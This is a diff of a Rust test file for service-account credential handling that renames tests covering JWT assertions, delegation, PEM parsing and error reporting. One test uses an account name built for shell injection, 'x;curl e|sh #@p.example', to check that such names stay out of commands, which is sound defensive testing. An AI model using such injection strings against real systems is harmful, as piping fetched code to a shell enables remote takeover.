@@ -50,7 +50,7 @@ fn claims(request: &RecordedRequest) -> (Value, Value) {
 }
 
 #[tokio::test]
-async fn an_assertion_with_exactly_these_claims_is_exchanged() {
+async fn service_account_assertion_has_these_claims() {
     let (emulator, account, options) = emulator().await;
     let credentials = Credentials::from_json(&account.json_key(), &options).unwrap();
     assert_eq!(credentials.kind(), CredentialKind::ServiceAccount);
@@ -92,7 +92,7 @@ async fn an_assertion_with_exactly_these_claims_is_exchanged() {
 }
 
 #[tokio::test]
-async fn a_pem_and_an_address_are_enough() {
+async fn pem_and_email_make_a_credential() {
     let (emulator, account, options) = emulator().await;
     for pem in [
         account.pkcs8_pem().to_owned(),
@@ -110,7 +110,7 @@ async fn a_pem_and_an_address_are_enough() {
 }
 
 #[tokio::test]
-async fn a_subject_is_acted_for_where_that_is_allowed() {
+async fn delegated_subject_must_be_allowed() {
     let (emulator, account, options) = emulator().await;
     let options = options
         .subject("jane@example.com")
@@ -138,7 +138,7 @@ async fn a_subject_is_acted_for_where_that_is_allowed() {
 }
 
 #[tokio::test]
-async fn a_self_signed_token_is_the_jwt_itself_and_costs_no_request() {
+async fn self_signed_jwt_is_used_without_a_request() {
     let (emulator, account, options) = emulator().await;
     let options = options.self_signed_jwt(true);
     let key = account.json_key();
@@ -189,7 +189,7 @@ async fn a_self_signed_token_is_the_jwt_itself_and_costs_no_request() {
 }
 
 #[tokio::test]
-async fn a_key_goes_to_the_token_host_that_it_names_and_still_says_googles_audience() {
+async fn assertion_goes_to_token_uri_with_googles_audience() {
     let (emulator, account, options) = emulator().await;
     let mut file: Value = serde_json::from_str(&account.json_key()).unwrap();
     file["token_uri"] = json!("https://www.googleapis.com/oauth2/v4/token");
@@ -214,7 +214,7 @@ async fn a_key_goes_to_the_token_host_that_it_names_and_still_says_googles_audie
 }
 
 #[tokio::test]
-async fn a_refusal_names_the_account_and_the_key_and_says_what_to_do() {
+async fn rejected_key_is_named_with_a_remedy() {
     let (emulator, account, options) = emulator().await;
     for (description, command) in [
         (
@@ -252,7 +252,7 @@ async fn a_refusal_names_the_account_and_the_key_and_says_what_to_do() {
 }
 
 #[tokio::test]
-async fn a_name_that_a_shell_would_run_does_not_get_into_a_command() {
+async fn unsafe_account_name_stays_out_of_commands() {
     let (emulator, account, options) = emulator().await;
     let name = "x;curl e|sh #@p.example";
     let mut file: Value = serde_json::from_str(&account.json_key()).unwrap();
@@ -278,7 +278,7 @@ async fn a_name_that_a_shell_would_run_does_not_get_into_a_command() {
 }
 
 #[tokio::test]
-async fn a_server_in_trouble_is_no_refusal() {
+async fn unavailable_token_endpoint_is_transient() {
     let (emulator, account, options) = emulator().await;
     emulator.fault("oauth2.googleapis.com", Fault::status(503).times(10));
     let credentials = Credentials::from_json(&account.json_key(), &options).unwrap();
@@ -288,7 +288,7 @@ async fn a_server_in_trouble_is_no_refusal() {
 }
 
 #[test]
-fn each_field_that_is_missing_empty_or_of_the_wrong_type_is_named() {
+fn invalid_service_account_fields_are_named() {
     let whole = json!({
         "type": "service_account",
         "client_email": ROBOT,
@@ -344,7 +344,7 @@ fn each_field_that_is_missing_empty_or_of_the_wrong_type_is_named() {
 }
 
 #[test]
-fn a_text_of_another_type_is_no_key() {
+fn other_json_is_not_a_service_account_key() {
     for text in [r#"{"type": "authorized_user"}"#, "{}", "", "x"] {
         let error = ServiceAccountKey::from_json(text).unwrap_err();
         assert_eq!(error.kind(), ErrorKind::InvalidFile, "{text}");
@@ -352,7 +352,7 @@ fn a_text_of_another_type_is_no_key() {
 }
 
 #[tokio::test]
-async fn the_key_is_never_shown() {
+async fn private_key_is_never_shown() {
     let (_emulator, account, options) = emulator().await;
     let key = ServiceAccountKey::from_json(&account.json_key()).unwrap();
     assert_eq!(key.key_id(), Some(account.private_key_id()));
@@ -367,7 +367,7 @@ proptest::proptest! {
     #![proptest_config(proptest::test_runner::Config::with_cases(16))]
 
     #[test]
-    fn a_pem_is_read_however_its_lines_are_broken(
+    fn pem_is_parsed_with_any_line_breaks(
         width in 1_usize..200,
         end in proptest::sample::select(vec!["\n", "\r\n", "\\n"]),
     ) {
